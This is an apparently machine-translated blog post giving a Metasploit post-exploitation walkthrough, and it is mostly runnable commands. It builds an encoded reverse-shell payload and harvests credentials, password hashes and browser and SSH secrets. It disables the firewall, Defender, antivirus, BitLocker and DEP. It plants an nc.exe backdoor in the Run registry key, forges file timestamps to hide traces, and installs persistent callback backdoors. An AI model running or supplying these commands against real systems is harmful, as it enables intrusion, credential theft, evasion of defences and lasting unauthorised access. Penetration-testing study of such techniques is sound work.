What should I do when I go online Metasploit?

The post penetration stage is to expand the results after gaining control of the target operating system

First, construct a payload

 msfvenom -a x86 --platform windows -p windows/meterpreter/reverse_tcp LHOST= LPORT=4444 -b "\x00" -e x86/shikata_ga_nai -f exe -o 1.exe

A machine has been found to execute my payload

Further access to higher permissions.

View basic information

View system information


view user permissionView network environment

run get_local_subnets

View kernel

uname -a

View version

cat /etc/issue

Information collection module

Some commonly used post modules 1. Judge whether the target machine is a virtual machine

 run post/windows/gather/checkvm

2. View the account and token of the target host

 run post/windows/gather/credentials/credential_collector

3. View the installed software of the target machine

 run post/windows/gather/enum_applications

4. Local right lifting test module

If the authority you get is not the administrator's system authority, and you don't know whether there is a vulnerability of local right lifting, you can choose the following modules for testing

run post/multi/recon/local_exploit_suggester

It will automatically walk through all the vulnerabilities that can be tested, and then list the feasible ones.

5. View recently opened files

run post/windows/gather/dumplinks

6. Check the web application account password for Firefox browser login

Suppose that the target system has Firefox installed and the account password is set to be saved in the browserrun post/multi/gather/firefox_creds

7.ssh save account view

 run post/multi/gather/ssh_creds

8. Detect whether a program on the system is malware For example:

 run post/multi/gather/check_malware REMOTEFILE=c:\\a.exe

9. Collect password hash on the system (administrator permission is required)

run post/windows/gather/smart_hashdump

10. View the login user of the target machine

run post/windows/gather/enum_logged_on_users

11. Collect the login credentials of the target machine

run post/windows/gather/credentials/credential_collector

12. View the partition of the target machine

run post/windows/gather/forensics/enum_drives

13. Get browser cache file

run post/windows/gather/enum_ie

Information collection scriptThe collected target machine information will be downloaded locally

run winneum

run scraper

General operation

For more command operations, please see the article [1]

Get system permission


Get user password hash

The hash value used to obtain the user name and password of the system account


Get machine online time


Target host file search

search command

For example, search all. ini files of the host

 search -f *.ini

Searching the whole computer may take a long time, and observing users may notice that their hard disk is constantly bumpy, so search in the specified directory. For example:

search -d c:\\documents\ and\ settings\\administrator\\desktop\\ -f *.pdf

Mimikatz extension

system permission is required

load mimikatz

load The new commands are as follows:

These above are related to the account number of the system mimikatz_command -f cannot get help, but it can get the usage method from the error message

View system operation services

mimikatz_command -f service::list

View system processes

 mimikatz_command -f process::list

You can get more command prompts through error reporting

Turn off firewallPremise: the shell that has obtained the administrator permission of the target host through the vulnerability

Use the following command to turn off the firewall


netsh advfirewall set allprofiles state off

Check it. It isclosed successfully

Further end windend

 net stop windefend  //netstop is used to end the windows service

View service status under windows Run services.msc with win+r

Add a firewall policy

First enter the command prompt

execute -f cmd -i -H   //Open the shell in a hidden way

View firewall status

netsh firewall show opmode

Add an allow policynetsh firewall add portopening TCP 4444 "test" ENABLE ALL
  //The name test can be set as a hidden name, which can be extracted from the firewall policy,
  Achieve the purpose of concealment

Kill antivirus software

Under the command of meterpreter, enter

Run killav

You can also use the post module directly

run post/windows/manage/killav

Turn on Remote Desktop Services

 run post/windows/manage/enable_rdp

Use saved scripts

Turn on Remote Desktop Services

 run getgui –e

Add remote desktop user and password

 run getgui -u user -p pass

Grab screen


Or use plug-ins

load espia  //Loading plug-ins
screengrab //Screen capture

Registry operationFor example: We have obtained the permission of the merterpreter of the target host. By modifying the registry, we will run the nc.exe uploaded to the target host every time the target host starts up, so as to facilitate the monitoring of the target host. 1. Upload nc.exe to the target host

 upload /usr/share/windows-binaries/nc.exe C:\\windows\\system32   //Transferred to the system directory

2. Check the contents of the registry that follow the host startup by default

reg enumkey -k HKLM\\software\\microsoft\\windows\\currentversion\\run  //reg is a special command in merterpreter to view and modify the registry

3. Add a key value

 reg setval -k HKLM\\software\\microsoft\\windows\\currentversion\\run -v nc -d 'C:\windows\system32\nc.exe -Ldp 444 -e cmd.exe'
 //The setval parameter is to add or modify a key value
 // -The Ldp L parameter is listening, d means in the background, and p means port
 // All in all, the unknown key value is added to the registry. The content is to execute nc.exe in the directory, open cmd.exe in the background, listen to port 444 and wait for connection.

View the successful insertion after successful execution.

You can also use the following command

 reg queryval -k HKLM\\software\\microsoft\\windows\\currentversion\\Run -v nc
 // queryval is a queryAdditional registry options [2]

Disk encryption

Bitlocker disk encryption. The encrypted files of some computers are encrypted and sealed. Bitlocker encryption is one, which is integrated into the windows system software system.

Turn off disk encryption on the target host:

 manage-bde -off C:

To view disk encryption status:

manage-bde -status C:Close DEP

DEP is a hardware based cpu protection technology. Closing DEPk can easily break the enemy's defense. You can use the following commands

 bcdedit.exe /set {current} nx AlwaysOff

File access time modification

When operating on the target system file, the time of file operation will be left, including creation time, modification time and change time. As the name suggests, the system administrator can use the information of these three times to check whether and when the file has been changed and judge whether the system has been invaded.

For penetration testing, of course, we hope to erase the traces of changes. You can use stat - file name to view the details of the file time.

Timestomp Timestamp is a command used by merterpreter to view and modify the change time of a file. View the specific time of the file

 timestomp -v 1.txt

Compared with stat command, Entry Modified: 2020-07-22 22:51:39 -0400

Change the MAC time of one file to copy according to the MAC time of another file

 timestomp -f c:\\autoexec.bat 1.txtTime specific modification parameters

 -m  //Modified time
 -a   //Modify Accessed time
 -c  //Modify Created time
 -e  //Modify Entry Modified time
 -z  //Modify all four times

For example:

 timestomp -z "MM/DD/YYYY HH24:MI:SS"  2.txt


Generally, payLoad has advanced parameters, in which there is an advanced advanced option.

You can see that there is an AutoRunScript parameter, which is to execute the script immediately after executing the payload.

For example: set AutoRunScript migrate -n explorer.exe This statement means that once you get the shell, immediately migrate the process to explorer.exe to avoid losing the shell after the injected toxic exe is killed.Or other scripts, for example, view the most recently opened files on the target host immediately

set AutoRunScript post/windows/gather/dumplinks

If there are two scripts in sequence, you can add a script that executes first in the InitialAutoRunScript option.

Modify hosts file

run hostsedit -e,www.baidu.com

Persistent back door

 run metsvc -A       //   Delete - r

This command will directly generate a system process named metsvc.exe, listening on port 31337 And the boot will start itself, but the disadvantage is that the port cannot be configured by itself, and the name of the uploaded exe file cannot be changed.

Connect the rear door

 set PAYLOAD windows/metsvc_bind_tcp
 set LPORT 31337
 set RHOST

I haven't got the shell card for a long time. It's estimated that this module won't be maintainedCheck the configuration items of the parameters

-A The default connection method is exploit/multi/handler
-S  Work on the system as a system service process
-X Automatic execution when the system is powered on
-i Delay time, when the service is running n Seconds to perform a loopback
-p port
-r Back connected ip Address, that is kali Address of


 run persistence -X -i 10 -p 4444 -r
 run persistence -U -i 20 -p 4444 -r
 run persistence -S -i 20 -p 4444 -r

reference material

[1] General operation details:“ https://blog.csdn.net/Yu_csdnstory/article/details/107441171 "

[2] Additional registry details:https://support.accessdata.com/hc/en-us/articles/204448155-Registry-Quick-Find-Chart

Posted on Fri, 26 Nov 2021 03:50:26 -0500 by forcom